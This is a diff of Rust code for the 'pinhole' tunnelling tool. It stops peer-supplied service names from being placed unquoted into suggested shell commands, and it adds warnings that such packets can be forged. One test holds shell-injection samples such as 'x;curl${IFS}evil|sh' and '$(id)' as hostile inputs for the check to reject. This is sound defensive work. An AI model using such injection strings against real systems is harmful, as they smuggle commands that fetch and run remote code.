@@ -69,15 +69,23 @@ pub(super) fn describe(event: &Event) -> Option<String> {
 
 fn service_missing(listener: SocketAddr, service: &str, offered: &Services) -> String {
     let service = shown(service);
-    let Some(first) = offered.names().first() else {
+    if offered.names().is_empty() {
         return format!("{listener} reaches nothing: the peer offers no service at all");
-    };
-    format!(
-        "{listener} reaches nothing: the peer offers {} and no {service}. To reach one of them: `pinhole open {}:{} --peer PEER`",
-        names(offered.names()),
-        listener.port(),
-        shown(first)
-    )
+    }
+    let told =
+        format!("{listener} reaches nothing: the peer offers {} and no {service}", names(offered.names()));
+    match offered.names().iter().find(|name| is_word(name)) {
+        Some(word) => {
+            format!("{told}. To reach one of them: `pinhole open {}:{word} --peer PEER`", listener.port())
+        }
+        None => told,
+    }
+}
+
+/// Whether a name of the peer's can stand in a command: no shell makes anything else of it, and no option begins with it.
+fn is_word(name: &str) -> bool {
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-');
+    name.chars().all(is_plain) && !name.is_empty()
 }
 
 /// Names that are shown of a longer list.
@@ -91,9 +99,10 @@ pub(super) fn names(names: &[String]) -> String {
     format!("{}{more}", listed.join(", "))
 }
 
-/// Shows a name that the peer has given: whatever could move a cursor, or is not seen, is written out.
+/// Shows a name that the peer has given: whatever could move a cursor, or is not seen, is written out; one that is no plain
+/// word is quoted.
 fn shown(name: &str) -> String {
-    name.escape_debug().to_string()
+    if is_word(name) { name.to_owned() } else { format!("\"{}\"", name.escape_debug()) }
 }
 
 /// What helps a side that is out of means, mostly.
@@ -102,20 +111,20 @@ pub(super) const RAISE: &str = "raise the limit of open files (`ulimit -n`)";
 pub(super) fn describe_trouble(trouble: &Trouble) -> String {
     match trouble {
         Trouble::WrongKey { from } => format!(
-            "wrong key: packets arrive from {from}, but the key of this side does not open them. Both sides need the same: `pinhole key show` prints one that is kept, and one that was typed must be typed again"
+            "wrong key: packets arrive from {from} that the key of this side does not open. If they are the peer's, both sides need the same key: `pinhole key show` prints one that is kept, and one that was typed must be typed again. (Anybody can forge such packets)"
         ),
         Trouble::OtherVersion { from, version } => {
             format!(
-                "{from} speaks version {version} of the protocol, which this program does not know: use the same release on both sides"
+                "packets from {from} look like version {version} of the protocol, which this program does not know. If they are the peer's, use the same release on both sides. (Anybody can forge such packets)"
             )
         }
         Trouble::OldScript { from, role } => {
-            let (here, there) = match role {
-                Role::Serve => ("-c", "-l"),
-                Role::Open => ("-l", "-c"),
+            let there = match role {
+                Role::Serve => "-l",
+                Role::Open => "-c",
             };
             format!(
-                "packets of the old Python script (or of `pinhole classic`) arrive from {from}: run `pinhole {there}` there as well. Until then `pinhole classic {here} TCP_PORT PEER` here talks to the script, neither encrypted nor authenticated"
+                "packets as the old Python script (or `pinhole classic`) sends them arrive from {from}. If they are the peer's, start pinhole there, with {there}. (Anybody can forge such packets)"
             )
         }
         Trouble::OtherVerb { from, checks: true } => format!(
@@ -417,10 +426,26 @@ mod tests {
     }
 
     #[test]
+    fn a_name_of_the_peer_s_that_a_shell_would_not_take_as_a_word_is_in_no_command() {
+        let listener = SocketAddr::from(([127, 0, 0, 1], 2222));
+        let told = |names: &[&str]| service_missing(listener, "ssh", &Services::new(names.iter().copied()));
+        let foul = "x;curl${IFS}evil|sh";
+        assert!(
+            told(&[foul]).ends_with(&format!("the peer offers \"{foul}\" and no ssh")),
+            "{}",
+            told(&[foul])
+        );
+        assert!(told(&[foul, "web"]).ends_with("`pinhole open 2222:web --peer PEER`"));
+        for name in ["a`b", "$(id)", "a'b", "a\"b", "ä", ""] {
+            assert!(!is_word(name), "{name}");
+        }
+    }
+
+    #[test]
     fn what_the_peer_names_is_bounded_and_cannot_hide() {
         let many: Vec<String> = (1..=10).map(|n| n.to_string()).collect();
         assert_eq!(names(&many), "1, 2, 3, 4, 5, 6, 7, 8 and 2 more");
-        assert_eq!(names(&["gr\u{202e}en".into(), "größe".into()]), "gr\\u{202e}en, größe");
+        assert_eq!(names(&["gr\u{202e}en".into(), "größe".into()]), "\"gr\\u{202e}en\", \"größe\"");
     }
 
     #[test]
